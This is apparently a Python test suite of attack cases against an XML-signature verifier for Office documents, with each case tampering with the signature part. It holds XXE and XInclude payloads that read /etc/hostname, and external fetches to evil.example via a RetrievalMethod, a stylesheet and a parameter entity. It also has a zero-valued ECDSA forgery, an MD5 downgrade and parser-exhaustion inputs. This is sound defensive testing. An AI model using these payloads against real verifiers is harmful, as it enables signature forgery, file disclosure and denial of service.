"""Attacks on KeyInfo, algorithms, values and the XML of a signature part."""

from tests.package.attacks.changes import SIG2, Parts, case, rewrite

_CERTIFICATE = rb"<X509Certificate>.*?</X509Certificate>"


def _thousands(parts: Parts) -> None:
    """As many References as fit under the limit of a control part."""
    reference = (
        b'<Reference URI="/xl/%d.xml?ContentType=text/xml"><DigestMethod '
        b'Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>'
        b"<DigestValue>47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=</DigestValue></Reference>"
    )
    rewrite(SIG2, rb"</Manifest>", b"".join(reference % n for n in range(10_000)) + b"</Manifest>")(parts)


VALUES = (
    case(
        "key-value",
        "a key beside the certificates",
        rewrite(SIG2, rb"<KeyInfo>", b"<KeyInfo><KeyValue/>"),
        "signature-structure",
    ),
    case(
        "key-name",
        "a name by which a key is looked up",
        rewrite(SIG2, rb"<KeyInfo>", b"<KeyInfo><KeyName>x</KeyName>"),
        "signature-structure",
    ),
    case(
        "retrieval-method",
        "a certificate fetched on the attacker's behalf",
        rewrite(SIG2, rb"<KeyInfo>", b'<KeyInfo><RetrievalMethod URI="http://evil.example/x"/>'),
        "signature-structure",
    ),
    case(
        "x509-crl",
        "a CRL of the attacker's",
        rewrite(SIG2, rb"</X509Data>", b"<X509CRL>AA==</X509CRL></X509Data>"),
        "signature-structure",
    ),
    case(
        "x509-subject-name",
        "a certificate chosen by its name",
        rewrite(SIG2, rb"<X509Data>", b"<X509Data><X509SubjectName>CN=x</X509SubjectName>"),
        "signature-structure",
    ),
    case(
        "certificates-missing",
        "nobody signed it",
        rewrite(SIG2, rb"<X509Data>.*</X509Data>", b"<X509Data/>"),
        "key-info-certificate",
    ),
    case(
        "certificate-twice",
        "the first or the last may count",
        rewrite(SIG2, rb"(" + _CERTIFICATE + rb")", rb"\1\1"),
        "key-info-certificate",
    ),
    case(
        "certificate-malformed",
        "malformed",
        rewrite(SIG2, _CERTIFICATE, b"<X509Certificate>MAA=</X509Certificate>"),
        "key-info-certificate",
    ),
    case(
        "certificates-without-end",
        "hundreds of certificates to build paths from",
        rewrite(SIG2, rb"(" + _CERTIFICATE + rb")", lambda found: found[1] * 500),
        "key-info-certificate",
    ),
    case(
        "thousands-of-references",
        "work for the verifier; each names a part that is not there",
        _thousands,
        "part-missing",
    ),
    case(
        "algorithm-missing",
        "algorithm confusion: none at all",
        rewrite(SIG2, rb"<SignatureMethod [^>]*/>", b"<SignatureMethod/>"),
        "algorithm-not-allowed",
    ),
    case(
        "algorithm-md5",
        "algorithm downgrade",
        rewrite(SIG2, rb"#ecdsa-sha256", b"#rsa-md5"),
        "algorithm-not-allowed",
    ),
    case(
        "algorithm-with-white-space",
        "compares equal to some",
        rewrite(SIG2, rb'#ecdsa-sha256"', b'#ecdsa-sha256 "'),
        "algorithm-not-allowed",
    ),
    case(
        "hmac-output-length",
        "CVE-2009-0217: a parameter that shortens the value",
        rewrite(
            SIG2,
            rb"(<SignatureMethod [^>]*)/>",
            rb"\1><HMACOutputLength>1</HMACOutputLength></SignatureMethod>",
        ),
        "signature-structure",
    ),
    case(
        "digest-truncated",
        "a digest of 20 octets",
        rewrite(SIG2, rb"<DigestValue>[^<]*", b"<DigestValue>AAAAAAAAAAAAAAAAAAAAAAAAAAA="),
        "signature-base64",
    ),
    case(
        "value-in-der",
        "an ECDSA value as X.509 writes it",
        rewrite(SIG2, rb"<SignatureValue>[^<]*", b"<SignatureValue>MAYCAQECAQE="),
        "signature-value-wrong",
    ),
    case(
        "value-of-zeros",
        "CVE-2022-21449: r and s are 0",
        rewrite(SIG2, rb"<SignatureValue>[^<]*", b"<SignatureValue>" + b"A" * 86 + b"=="),
        "signature-value-wrong",
    ),
    case(
        "value-missing",
        "nothing to verify",
        rewrite(SIG2, rb"<SignatureValue>[^<]*", b"<SignatureValue>"),
        "signature-base64",
    ),
    case(
        "value-not-base64",
        "characters that a lenient decoder drops",
        rewrite(SIG2, rb"<SignatureValue>", b"<SignatureValue>*"),
        "signature-base64",
    ),
    case(
        "value-with-wide-space",
        "U+2003 is white space to Python and none to XML",
        rewrite(SIG2, rb"<SignatureValue>", b"<SignatureValue>&#x2003;"),
        "signature-base64",
    ),
    case(
        "value-with-loose-bits",
        "RFC 4648 3.5: bits that decode to nothing",
        rewrite(
            SIG2,
            rb"([AQgw])==</SignatureValue>",
            lambda found: bytes([found[1][0] + 1]) + b"==</SignatureValue>",
        ),
        "signature-base64",
    ),
    case(
        "value-in-cdata",
        "a CDATA section, which readers by text miss",
        rewrite(SIG2, rb"<SignatureValue>([^<]*)<", rb"<SignatureValue><![CDATA[\1]]><"),
        "xml-node",
    ),
    case(
        "namespace-unused",
        "a declaration where nothing is signed",
        rewrite(SIG2, rb"<KeyInfo>", b'<KeyInfo xmlns:x="urn:x">'),
        "signature-namespace",
    ),
    case(
        "prefix-on-every-element",
        "Office looks for the elements by their literal names",
        lambda parts: parts.__setitem__(
            SIG2,
            parts[SIG2]
            .replace(b"<KeyInfo>", b'<d:KeyInfo xmlns:d="http://www.w3.org/2000/09/xmldsig#">')
            .replace(b"</KeyInfo>", b"</d:KeyInfo>"),
        ),
        "signature-namespace",
    ),
    case(
        "text-between-elements",
        "text where none belongs",
        rewrite(SIG2, rb"<KeyInfo>", b"evil<KeyInfo>"),
        "signature-structure",
    ),
    case(
        "xml-space",
        "an attribute that changes what white space is",
        rewrite(SIG2, rb"<KeyInfo>", b'<KeyInfo xml:space="preserve">'),
        "xml-attribute",
    ),
    case(
        "stylesheet",
        "a processing instruction before the root",
        rewrite(SIG2, rb"<Signature ", b'<?xml-stylesheet href="http://evil.example/x.xsl"?><Signature '),
        "xml-node",
    ),
    case(
        "external-entity",
        "XXE: a file of the verifier's machine in a comment that is shown",
        rewrite(
            SIG2, rb"<Signature ", b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/hostname">]><Signature '
        ),
        "xml-dtd",
    ),
    case(
        "parameter-entity",
        "an external DTD by a parameter entity",
        rewrite(
            SIG2,
            rb"<Signature ",
            b'<!DOCTYPE s [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]><Signature ',
        ),
        "xml-dtd",
    ),
    case(
        "undeclared-entity",
        "malformed",
        rewrite(SIG2, rb"TEST</SignatureComments>", b"&x;</SignatureComments>"),
        "xml-malformed",
    ),
    case(
        "unsigned-timestamp",
        "an unsigned property that nobody vouches for",
        rewrite(
            SIG2,
            rb"</xd:QualifyingProperties>",
            b"<xd:UnsignedProperties><xd:UnsignedSignatureProperties><xd:CounterSignature/></xd:UnsignedSignatureProperties></xd:UnsignedProperties></xd:QualifyingProperties>",
        ),
        "signature-structure",
    ),
    case(
        "xinclude",
        "XInclude: another file in place of an element",
        rewrite(
            SIG2,
            rb"</Signature>",
            b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/hostname"/></Signature>',
        ),
        "signature-namespace",
    ),
    case(
        "signature-too-large",
        "a signature part over its limit",
        rewrite(SIG2, rb"</SignedInfo>", b"</SignedInfo>" + b" " * (17 << 20)),
        "limit-xml-size",
    ),
    case(
        "elements-by-the-hundred-thousand",
        "work and memory for the parser: four octets of the file are a hundred and more in memory",
        rewrite(SIG2, rb"</KeyInfo>", b"<a/>" * 900_000 + b"</KeyInfo>"),
        "limit-xml-nodes",
    ),
    case(
        "attributes-by-the-hundred-thousand",
        "work for the parser: each attribute is compared with the others",
        rewrite(
            SIG2,
            rb"<KeyInfo>",
            lambda _: b"<KeyInfo " + b" ".join(b'a%x=""' % n for n in range(300_000)) + b">",
        ),
        "limit-xml-nodes",
    ),
    case(
        "attributes-up-to-the-limit",
        "work for the parser: as many as are read",
        rewrite(
            SIG2,
            rb"<KeyInfo>",
            lambda _: b"<KeyInfo " + b" ".join(b'a%x=""' % n for n in range(130_000)) + b">",
        ),
        "limit-xml-nodes",
    ),
)
